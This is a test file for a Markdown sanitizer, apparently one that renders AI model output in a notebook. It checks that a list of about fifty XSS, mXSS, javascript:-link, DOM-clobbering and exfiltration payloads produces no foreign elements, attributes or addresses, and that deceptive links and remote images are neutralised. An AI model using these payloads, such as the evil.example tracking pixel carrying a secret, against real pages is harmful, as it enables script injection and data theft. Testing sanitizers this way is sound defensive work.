import { describe, expect, test } from "vitest";

import { renderMarkdown } from "../src/markdown/render";

function show(source: string): HTMLElement {
  const place = document.createElement("div");
  place.append(renderMarkdown(source));
  return place;
}

const OWN_ELEMENTS = new Set(
  (
    "a blockquote br code del em h1 h2 h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th " +
    "thead tr ul div button"
  )
    .split(" ")
    .map((name) => name.toUpperCase()),
);
const OWN_ATTRIBUTES = new Set([
  "href",
  "rel",
  "target",
  "class",
  "start",
  "type",
  "title",
  "aria-label",
]);

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=data:text/html,x></object><embed src=//evil.example>",
  "<form action=https://evil.example><input name=q><button>Approve</button></form>",
  '<div style="position:fixed;inset:0;z-index:9999">over everything</div>',
  "<style>* { display: none }</style>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=0;url=https://evil.example>",
  '<button data-commandlinker-command="notebook:run-all-cells">Run</button>',
  '<a href="#" data-commandlinker-command="apputils:reset" data-commandlinker-args="{}">x</a>',
  "<video src=https://evil.example/v autoplay><audio src=x><source srcset=https://evil.example>",
  "<details open ontoggle=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><script>alert(1)</script>-->",
  "<p id=jp-main class=jp-Notebook name=cookie>clobber</p>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A&#x61;vascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "[x](//evil.example)",
  "[x](#jp-main)",
  "[x](../lab/api)",
  '[x](https://evil.example "onmouseover=alert(1)")',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '![x](x"onerror="alert(1))',
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x](https://evil.example/pixel.gif?secret=1)",
  "![x](attachment:secret.png)",
  "<https://evil.example/?<script>>",
  "<javascript:alert(1)>",
  "```html\n<script>alert(1)</script>\n```",
  '``` "onload="alert(1)\nx\n```',
  "$\\href{javascript:alert(1)}{x}$",
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
  "[a]: javascript:alert(1)\n\n[a]",
  '<a href="https://x.example" style="position:absolute" class="jp-Button" onclick="alert(1)">y</a>',
  "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\u0000<scr\u0000ipt>alert(1)</script>",
];

describe("a model's Markdown", () => {
  test.each(HOSTILE)("%j makes no element, attribute or address that is not ours", (source) => {
    const place = show(source);
    for (const element of place.querySelectorAll("*")) {
      expect(OWN_ELEMENTS).toContain(element.tagName);
      for (const { name, value } of element.attributes) {
        expect(OWN_ATTRIBUTES).toContain(name);
        if (name === "href") {
          expect(value).toMatch(/^(?:https:\/\/|mailto:)/);
        }
        if (name === "class") {
          expect(value).toMatch(/^mnb-/);
        }
      }
    }
    expect(place.querySelector("img, script, style, svg, form, input, iframe")).toBeNull();
  });

  test("each button in it is one of ours, and none of it loads anything", () => {
    const place = show(HOSTILE.join("\n\n"));
    const names = [...place.querySelectorAll("button")].map((button) => button.className);
    expect(new Set(names)).toEqual(new Set(["mnb-chip-button", "mnb-icon-button mnb-code-copy"]));
    expect(place.querySelector("[src], [srcset], [style], [id]")).toBeNull();
  });

  test("is rendered", () => {
    const place = show(
      "# T\n\n**b** _e_ ~~s~~ `c`\n\n3. x\n\n> q\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n",
    );
    expect(place.querySelector("h1")?.textContent).toBe("T");
    expect(place.querySelector("strong")?.textContent).toBe("b");
    expect(place.querySelector("s")?.textContent).toBe("s");
    expect(place.querySelector("ol")?.getAttribute("start")).toBe("3");
    expect(place.querySelector("td")?.className).toBe("mnb-right");
    expect(place.querySelector("blockquote")?.textContent?.trim()).toBe("q");
  });

  test("character references are decoded by the browser", () => {
    expect(show("&copy; &hellip; &nosuch; &amp;lt; &#65;").textContent?.trim()).toBe(
      "© … &nosuch; &lt; A",
    );
  });
});

describe("a link", () => {
  const linkIn = (source: string) => show(source).querySelector("a");

  test("opens apart and tells nobody where it was clicked", () => {
    const link = linkIn("[docs](https://example.org/a)");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.getAttribute("href")).toBe("https://example.org/a");
  });

  test.each([
    ["[docs](https://example.org/a)", "docs (example.org)"],
    ["[https://bank.example](https://evil.example/x)", "https://bank.example (evil.example)"],
    [
      "[bank.example](https://bank.example.evil.example)",
      "bank.example (bank.example.evil.example)",
    ],
    [
      "[https://bank.example@evil.example](https://evil.example)",
      "https://bank.example@evil.example (evil.example)",
    ],
    ["[paypal.com](https://p\u0430ypal.com)", "paypal.com (xn--pypal-4ve.com)"],
    ["[p\u0430ypal.com](https://p\u0430ypal.com)", "p\u0430ypal.com (xn--pypal-4ve.com)"],
    ["[mail](mailto:a@example.org)", "mail (a@example.org)"],
    ["[a@example.org](mailto:a@example.org)", "a@example.org"],
    ["[example.org](https://example.org/a/b)", "example.org"],
    ["https://example.org/a?b=1", "https://example.org/a?b=1"],
    ["<https://example.org/a>", "https://example.org/a"],
    ["[x](http://plain.example/a)", "x (http://plain.example/a)"],
    ["[x](ftp://files.example)", "x (ftp://files.example)"],
    ["[x](notes.md)", "x (notes.md)"],
  ])("%j reads %j", (source, words) => {
    expect(show(source).textContent?.trim()).toBe(words);
  });

  test("an address without https is text", () => {
    expect(linkIn("[x](http://plain.example)")).toBeNull();
    expect(linkIn("http://plain.example")).toBeNull();
  });

  test("loses the name and password before its host, and words put into a mail", () => {
    expect(linkIn("[x](https://bank.example:pw@evil.example/a)")?.href).toBe(
      "https://evil.example/a",
    );
    expect(linkIn("[x](mailto:a@example.org?subject=s&body=b)")?.href).toBe("mailto:a@example.org");
  });

  test.each([
    ["see https://example.org/a.", "https://example.org/a"],
    ["(https://example.org/a_(b))", "https://example.org/a_(b)"],
    ["**https://example.org**", "https://example.org/"],
    ["https://example.org/a, and", "https://example.org/a"],
  ])("%j ends where the address does", (source, href) => {
    expect(linkIn(source)?.href).toBe(href);
  });
});

describe("an image", () => {
  test("is a chip that names its host, and nothing is fetched", () => {
    const place = show("![the plot](https://images.example/a.png?token=1)");
    expect(place.textContent).toContain("blocked image: images.example");
    expect(place.textContent).toContain("the plot");
    expect(place.querySelector("img")).toBeNull();
  });

  test("is loaded when a person asks, without telling where from", () => {
    const place = show("![the plot](https://images.example/a.png)");
    place.querySelector("button")?.click();
    const image = place.querySelector("img");
    expect(image?.src).toBe("https://images.example/a.png");
    expect(image?.referrerPolicy).toBe("no-referrer");
    expect(image?.alt).toBe("the plot");
  });

  test.each([
    ["![x](http://plain.example/a.png)", "blocked image: plain.example"],
    ["![x](attachment:a.png)", "blocked image: attachment"],
    ["![x](a.png)", "blocked image: no address"],
    ["![x](data:image/svg+xml;base64,AAAA)", "blocked image: data"],
  ])("%j cannot be loaded at all", (source, words) => {
    const place = show(source);
    expect(place.textContent).toContain(words);
    expect(place.querySelector("button")).toBeNull();
  });

  test("each chip keeps its own address", () => {
    const place = show("![a](https://one.example/a) ![b](https://two.example/b)");
    expect(place.textContent?.indexOf("one.example")).toBeLessThan(
      place.textContent?.indexOf("two.example") ?? -1,
    );
    place.querySelectorAll("button")[1]?.click();
    expect(place.querySelector("img")?.src).toBe("https://two.example/b");
  });
});

describe("an address", () => {
  test("is spelled in characters that an address may have, and what was encoded stays", () => {
    const link = show("[a](<https://example.org/é b?q=%41%zz#ü>)").querySelector("a");
    expect(link?.href).toBe("https://example.org/%C3%A9%20b?q=%41%25zz#%C3%BC");
  });

  test("that stands for itself is shown as it is spelled, never decoded", () => {
    const spelled = "https://example.org/%E2%80%AEgnp";
    expect(show(spelled).textContent?.trim()).toBe(spelled);
  });
});
